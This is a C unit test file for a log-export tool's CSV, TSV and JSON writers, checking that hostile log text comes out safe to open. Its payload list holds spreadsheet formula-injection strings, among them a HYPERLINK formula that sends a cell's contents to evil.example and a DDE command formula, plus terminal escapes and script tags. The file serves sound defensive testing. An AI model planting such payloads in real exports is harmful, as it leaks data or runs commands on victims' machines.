/* test_writer.c - whatever a stranger wrote into a log, the outputs are safe to open.
 *
 * Each payload goes through each format as a text cell, and invariants are checked by hand; the
 * sharper checker of the team runs too where it is at hand.
 */
#include "bouncemill/registry.h"
#include "bouncemill/writer.h"

#include <criterion/criterion.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

extern const struct bm_writer bm_writer_csv, bm_writer_tsv, bm_writer_json;

static const struct bm_bytes payloads[] = {
	BM_BYTES("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"),
	BM_BYTES("=cmd|'/C calc'!A0"),
	BM_BYTES("+1+1"),
	BM_BYTES("-2+3"),
	BM_BYTES("@SUM(1+1)*cmd"),
	BM_BYTES("\t=1+1"),
	BM_BYTES("\r=1+1"),
	BM_BYTES("\0=1+1"),
	BM_BYTES("  =1+1"),
	BM_BYTES("\xe3\x80\x80=1+1"),
	BM_BYTES("\xc2\xa0\xe2\x80\x89@x"),
	BM_BYTES("＝1+1"),
	BM_BYTES("＋＠－"),
	BM_BYTES("|calc"),
	BM_BYTES("a;=1+1"),
	BM_BYTES("he said \"550\""),
	BM_BYTES("\",=1+1,\""),
	BM_BYTES("\\\",=1"),
	BM_BYTES("a\nb\r\nc"),
	BM_BYTES("<script>alert(1)</script>"),
	BM_BYTES("</script><!--"),
	BM_BYTES("a\xe2\x80\xa8"
		 "b\xe2\x80\xa9"
		 "c"),
	BM_BYTES("&lt;b&gt;"),
	BM_BYTES("\x1b[2J\x1b]0;pwn\x07"),
	BM_BYTES("\x9b"
		 "31mred"),
	BM_BYTES("\xc2\x9b"
		 "31mred"),
	BM_BYTES("user\xe2\x80\xaemoc"),
	BM_BYTES("\xff\xfe\xc0\xaf"),
	BM_BYTES("\xed\xa0\x80"),
	BM_BYTES("abc\xe4\xb8"),
	BM_BYTES("\xd3\xc3\xbb\xa7\xb2\xbb\xb4\xe6\xd4\xda"),
	BM_BYTES("😀👨‍👩‍👧"),
	BM_BYTES("%s%n%x%p"),
	BM_BYTES("'"),
	BM_BYTES("a,b"),
	BM_BYTES("plain.example"),
	BM_BYTES("x"),
	BM_BYTES("1234567"),
	BM_BYTES("12345678"),
};
enum { PAYLOAD_COUNT = sizeof payloads / sizeof *payloads };

static const struct bm_column columns[] = {
	{"text", BM_KIND_TEXT},      {"count", BM_KIND_INT},     {"share", BM_KIND_SHARE},
	{"wait_s", BM_KIND_SECONDS}, {"period", BM_KIND_PERIOD}, {"time", BM_KIND_TIME},
	{"last", BM_KIND_TEXT},
};

static void *open_payloads(const struct bm_view *view, size_t *count)
{
	(void)view;
	*count = PAYLOAD_COUNT;
	return NULL;
}

static void payload_row(const void *rows, size_t index, struct bm_value *values)
{
	(void)rows;
	values[0] = (struct bm_value){.text = payloads[index]};
	values[1] = (struct bm_value){.integer = -(int64_t)index};
	values[2] = (struct bm_value){.real = (double)index / 3, .empty = index == 1};
	values[3] = (struct bm_value){.real = (double)index / 4};
	values[4] = (struct bm_value){.integer = 20000 + (int64_t)index / 2};
	values[5] = (struct bm_value){.integer = bm_time_make(1700000000, 480)};
	values[6] = (struct bm_value){.text = payloads[PAYLOAD_COUNT - 1 - index]};
}

static void close_payloads(void *rows)
{
	(void)rows;
}

static const struct bm_table table = {
	.name = "payloads",
	.columns = columns,
	.column_count = sizeof columns / sizeof *columns,
	.open = open_payloads,
	.row = payload_row,
	.close = close_payloads,
};
static const struct bm_view view = {.bucket = BM_BUCKET_DAY, .lang = "en"};

/* write_document - the whole table as a document at path */
static void write_document(const struct bm_writer *writer, const char *path)
{
	const struct bm_writer_options options = {0};
	const struct bm_sheet sheet = {&table, NULL, PAYLOAD_COUNT};
	const struct bm_document document = {.view = &view,
					     .options = &options,
					     .sheets = &sheet,
					     .sheet_count = 1,
					     .target = path};
	cr_assert_eq(writer->document(path, &document), BM_OK);
}

/* render - the whole table in a format, its rows cut into two pieces */
static struct bm_text render(const struct bm_writer *writer, struct bm_writer_options options,
			     size_t cut)
{
	struct bm_text text = {0};
	writer->head(&text, &table, &view, &options);
	writer->rows(&text, &table, NULL, 0, cut, &view, &options);
	writer->rows(&text, &table, NULL, cut, PAYLOAD_COUNT, &view, &options);
	writer->tail(&text, &table, &view, &options);
	return text;
}

/* expect_no_control - no control byte but line ends and one separator in text */
static void expect_no_control(const struct bm_text *text, uint8_t allowed)
{
	for (size_t i = 0; i < text->size; i++)
		cr_assert(text->data[i] >= 0x20 || text->data[i] == '\n' ||
				  text->data[i] == allowed,
			  "byte %zu is %02x", i, text->data[i]);
}

/* next_csv - the next cell from *at, unquoted; *end says whether it was the row's last */
static void next_csv(const struct bm_text *text, size_t *at, char *cell, bool *end)
{
	bool quoted = false;
	for (; *at < text->size; ++*at) {
		const uint8_t byte = text->data[*at];
		if (byte == '"' && quoted && text->data[*at + 1] == '"')
			*cell++ = (char)text->data[++*at];
		else if (byte == '"')
			quoted = !quoted;
		else if (!quoted && (byte == ',' || byte == '\n'))
			break;
		else
			*cell++ = (char)byte;
	}
	cr_assert(!quoted);
	*end = text->data[(*at)++] == '\n';
	*cell = 0;
}

/* starts_formula - could a spreadsheet run this cell */
static bool starts_formula(const char *cell)
{
	while (*cell == ' ' || strncmp(cell, "\u3000", 3) == 0)
		cell += *cell == ' ' ? 1 : 3;
	return (*cell && strchr("=+-@|\t\r", *cell)) || strncmp(cell, "＝", 3) == 0 ||
	       strncmp(cell, "＋", 3) == 0;
}

Test(csv, every_row_has_all_cells_and_no_formula)
{
	struct bm_text text = render(&bm_writer_csv, (struct bm_writer_options){0}, 7);
	char cell[4096];
	size_t at = 0;
	expect_no_control(&text, '\n');
	for (size_t row = 0; row <= PAYLOAD_COUNT; row++)
		for (unsigned i = 0; i < table.column_count; i++) {
			bool end;
			next_csv(&text, &at, cell, &end);
			cr_assert_eq(end, i + 1 == table.column_count, "row %zu cell %u", row, i);
			if (columns[i].kind == BM_KIND_TEXT)
				cr_expect(!starts_formula(cell), "row %zu: %s", row, cell);
		}
	cr_expect_eq(at, text.size);
	bm_text_dispose(&text);
}

Test(csv, cells_are_as_written)
{
	struct bm_text text = render(&bm_writer_csv, (struct bm_writer_options){0}, 0);
	bm_text_byte(&text, 0);
	const char *const all = (const char *)text.data;
	cr_expect(strstr(all, "\n'+1+1,-2,0.666667,0.5,2024-10-05,2023-11-14T22:13:20+08:00,x\n"));
	cr_expect(strstr(all, "\n\"he said \"\"550\"\"\",-15,5.000000,3.75,"));
	cr_expect(strstr(all, "\n'=cmd|'/C calc'!A0,-1,,0.25,"));
	cr_expect(strstr(all, "\n用户不存在,"));
	bm_text_dispose(&text);
}

Test(csv, excel_gets_its_mark_and_line_ends)
{
	struct bm_text text = render(&bm_writer_csv, (struct bm_writer_options){.excel = true}, 3);
	cr_expect_eq(memcmp(text.data, "\xef\xbb\xbftext,count,", 14), 0);
	for (size_t i = 0; i < text.size; i++)
		if (text.data[i] == '\n')
			cr_assert_eq(text.data[i - 1], '\r');
	bm_text_dispose(&text);
}

Test(csv, raw_cells_have_no_guard)
{
	struct bm_text text =
		render(&bm_writer_csv, (struct bm_writer_options){.raw_cells = true}, 3);
	bm_text_byte(&text, 0);
	cr_expect(strstr((const char *)text.data, "\n+1+1,"));
	bm_text_dispose(&text);
}

Test(tsv, tabs_and_line_ends_are_only_structure)
{
	struct bm_text text = render(&bm_writer_tsv, (struct bm_writer_options){.excel = true}, 11);
	size_t tabs = 0, lines = 0;
	expect_no_control(&text, '\t');
	for (size_t i = 0; i < text.size; i++) {
		tabs += text.data[i] == '\t';
		lines += text.data[i] == '\n';
		const bool starts = i == 0 || text.data[i - 1] == '\t' || text.data[i - 1] == '\n';
		cr_assert(!starts || memchr("=+@|", text.data[i], 4) == NULL);
	}
	cr_expect_eq(lines, PAYLOAD_COUNT + 1);
	cr_expect_eq(tabs, lines * (table.column_count - 1));
	bm_text_dispose(&text);
}

Test(json, is_safe_inside_html)
{
	struct bm_text text = render(&bm_writer_json, (struct bm_writer_options){0}, 5);
	expect_no_control(&text, '\n');
	for (size_t i = 0; i < text.size; i++)
		cr_assert(memchr("<>&", text.data[i], 3) == NULL);
	bm_text_byte(&text, 0);
	const char *const all = (const char *)text.data;
	cr_expect(strstr(all,
			 "{\"table\": \"payloads\", \"partial\": false, \"rows\": [\n{\"text\": "));
	cr_expect(strstr(all, "\"share\": null"));
	cr_expect(strstr(all, "\"text\": \"he said \\\"550\\\"\""));
	cr_expect(strstr(all, "\\u003cscript\\u003e"));
	bm_text_dispose(&text);
}

Test(writers, pieces_join_to_the_same_bytes)
{
	const struct bm_writer *writer;
	for (size_t i = 0; (writer = bm_registry_writer(i)) != NULL; i++) {
		if (writer->document)
			continue; /* tested as documents */
		struct bm_text whole = render(writer, (struct bm_writer_options){0}, PAYLOAD_COUNT);
		for (size_t cut = 0; cut < PAYLOAD_COUNT; cut++) {
			struct bm_text pieces = render(writer, (struct bm_writer_options){0}, cut);
			cr_assert(bm_bytes_equal((struct bm_bytes){whole.data, whole.size},
						 (struct bm_bytes){pieces.data, pieces.size}),
				  "%s cut at %zu", writer->name, cut);
			bm_text_dispose(&pieces);
		}
		bm_text_dispose(&whole);
	}
}

static struct bm_bytes long_text;

static void long_row(const void *rows, size_t index, struct bm_value *values)
{
	(void)rows, (void)index;
	values[0] = (struct bm_value){.text = long_text};
}

Test(writers, a_cell_has_an_end)
{
	static uint8_t bytes[100000];
	const struct bm_column column = {"text", BM_KIND_TEXT};
	const struct bm_table one = {
		.name = "one", .columns = &column, .column_count = 1, .row = long_row};
	const struct bm_writer_options options = {0};
	long_text = (struct bm_bytes){bytes, sizeof bytes};
	for (int round = 0; round < 3; round++) {
		memset(bytes, "M\"\\"[round], sizeof bytes);
		struct bm_text csv = {0}, tsv = {0};
		bm_writer_csv.rows(&csv, &one, NULL, 0, 1, &view, &options);
		bm_writer_tsv.rows(&tsv, &one, NULL, 0, 1, &view, &options);
		cr_expect_leq(round == 1 ? csv.size / 2 : csv.size, 32100);
		cr_expect_leq(tsv.size, 32100);
		bm_text_dispose(&csv);
		bm_text_dispose(&tsv);
	}
}

Test(writers, times_are_those_of_the_clock)
{
	static const int64_t walls[] = {0, 86399, 951782400, 1709164800, 253402300799, 253402300800,
					-1};
	static const int offsets[] = {BM_OFFSET_UNKNOWN, 0, 480, -210, 2047};
	const struct bm_column column = {"time", BM_KIND_TIME};
	const struct bm_table one = {
		.name = "one", .columns = &column, .column_count = 1, .row = long_row};
	const struct bm_writer_options options = {0};
	for (size_t i = 0; i < sizeof walls / sizeof *walls; i++)
		for (size_t k = 0; k < sizeof offsets / sizeof *offsets; k++) {
			char want[BM_TIME_TEXT_MAX];
			struct bm_text text = {0};
			const bm_time time = bm_time_make(walls[i], offsets[k]);
			const struct bm_value value = {.integer = time};
			memcpy(&long_text, &value.text, sizeof long_text);
			const size_t size = bm_time_text(time, want);
			bm_writer_csv.rows(&text, &one, NULL, 0, 1, &view, &options);
			cr_expect_eq(text.size, size + 1);
			cr_expect_eq(memcmp(text.data, want, size), 0, "%.*s, want %s",
				     (int)text.size - 1, (const char *)text.data, want);
			bm_text_dispose(&text);
		}
}

Test(writers, pass_the_sharper_checker)
{
	static const char checker[] = BM_TESTS "/../../shared/data/hostile/check_outputs.py";
	const struct bm_writer *writer;
	if (access(checker, R_OK) != 0)
		cr_skip_test("SKIPPED: ../shared is not there, outputs were NOT checked by "
			     "check_outputs.py");
	for (size_t i = 0; (writer = bm_registry_writer(i)) != NULL; i++) {
		if (strcmp(writer->name, "sqlite") == 0)
			continue; /* is no text: see test_sqlite.c */
		char path[64], command[1024];
		snprintf(path, sizeof path, "/tmp/bouncemill-test-XXXXXX%s", writer->suffix);
		const int end = (int)strlen(writer->suffix);
		const int file = mkstemps(path, end);
		cr_assert_geq(file, 0);
		struct bm_text text = {0};
		if (writer->document)
			write_document(writer, path);
		else
			text = render(writer, (struct bm_writer_options){0}, 1);
		cr_assert_eq(write(file, text.data, text.size), (ssize_t)text.size);
		close(file);
		/* The page has scripts of its own: data, charts and what moves them. */
		const bool page = strcmp(writer->name, "html") == 0;
		snprintf(command, sizeof command, "python3 '%s' %s '%s'", checker,
			 page ? "--scripts 3" : "", path);
		cr_expect_eq(system(command), 0, "%s", writer->name);
		unlink(path);
		bm_text_dispose(&text);
	}
}
